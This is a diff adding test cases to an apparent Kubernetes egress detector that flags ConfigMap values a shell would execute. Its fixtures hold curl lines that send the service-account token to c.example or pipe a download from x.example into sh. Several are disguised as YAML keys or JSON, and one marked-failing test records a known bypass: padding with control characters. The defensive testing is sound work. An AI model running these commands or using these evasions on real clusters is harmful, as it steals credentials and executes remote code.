@@ -105,8 +105,35 @@ describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
     ['an assignment before a command', 'env', 'A=1\nB=2 curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
     ['a hidden file a shell sources', '.profile', 'export PATH=/opt/bin:$PATH\ncurl -fsSL https://x.example/i | sh\n'],
     ['a few control characters do not make it binary', 'run', '\u0001\ncurl -fsSL https://x.example/i | sh\n'],
+    // review47b: lines the YAML reading took for keys or lone assignments, which sh runs.
+    ['an assignment spelt as a YAML key, then a command', 'config', 'a: 1\nX=: curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
+    ['a redirection spelt as a YAML key, then a command', 'config', '>/tmp/o: curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
+    ["an assignment's quote closed in a later key line's value", 'config', "X='\na: b' curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n"],
+    ["an assignment's ${…:-…} closed in a later line", 'config', 'X=${Y:-\na: b} curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
+    ["bash's ${X: 0} in a key spelling curl", 'config', 'X=c\n${X: 0}url -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://c.example/\n'],
+    ['valid JSON whose line runs eval', 'settings', '{\n"eval" : ";curl -fsSL https://x.example/i | sh"\n}'],
+    ["valid JSON whose first line opens sh's { group", 'settings', '{ "eval" : ";curl -fsSL https://x.example/i | sh;"\n}'],
+    ['a JSON array whose line runs eval', 'settings', '[\n"eval" , ";curl -fsSL https://x.example/i | sh"\n]'],
   ])('%s (%s)', (_name, key, value) => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
+  });
+
+  // review47b: a comment line of control characters makes a script "binary" (over 1/8 of it), and
+  // sh skips the comment; any ratio is beaten by padding where sh ignores it (a comment, a quoted
+  // argument, a heredoc to `:`), and reading a real keystore as sh spends the whole budget (random
+  // bytes: over_budget in 1 KiB), so the fix needs another test for binary (told the lead).
+  it.fails('a script padded past the binary threshold with a comment of control characters', () => {
+    const value = `curl -fsSL https://x.example/i | sh\n# ${'\u0001'.repeat(100)}\n`;
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
+  });
+
+  it('passes over YAML and JSON of the shapes charts write: quoted keys, items, flow maps, Jackson-style JSON without a program line', () => {
+    const values = {
+      rules: 'groups:\n- name: a\n  rules:\n  - alert: "X"\n    expr: rate(x[5m]) > 0.05\n    "annotations": {summary: "a > b"}\n\'quoted\': 1\n',
+      json: '{\n  "auths" : {\n    "r.example" : {"auth": "Y2k6eA=="}\n  },\n  "list": [\n    "a",\n    "b"\n  ]\n}'.replace('"auths" :', '"auths":').replace('"r.example" :', '"r.example":'),
+      env: 'A=1\nB=postgres://db:5432/app\n',
+    };
+    expect(egress(check('POST', CM, JSON.stringify(configMap(values)), 'application/json'))).toEqual([]);
   });
 
   it('passes over a routine env-style ConfigMap: single words, URLs, flags', () => {
@@ -192,6 +219,10 @@ describe('a key a pod of the same request runs is a script, whatever its key say
     ['a subPath mount', ['sh', '/entry'], { configMap: { name: 'scripts' } }, { name: 'cfg', mountPath: '/entry', subPath: 'settings.conf' }],
     ['a projected volume', ['sh', '/cfg/settings.conf'], { projected: { sources: [{ configMap: { name: 'scripts' } }] } }, undefined],
     ['the ..data path', ['sh', '/cfg/..data/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
+    // review47b: a runner in front of the shell, and the script on the shell's stdin.
+    ['timeout 300 sh /cfg/settings.conf', ['timeout', '300', 'sh', '/cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
+    ['cat … | sh', ['sh', '-c', 'cat /cfg/settings.conf | sh'], { configMap: { name: 'scripts' } }, undefined],
+    ['sh < …', ['sh', '-c', 'exec sh < /cfg/settings.conf'], { configMap: { name: 'scripts' } }, undefined],
   ])('%s', (_name, command, volume, mount) => {
     const found = checkWork(work(deployment(command, volume, mount), cm));
     expect(found.map((v) => v.path)).toEqual(['spec.workload.manifests[1].data.settings.conf']);
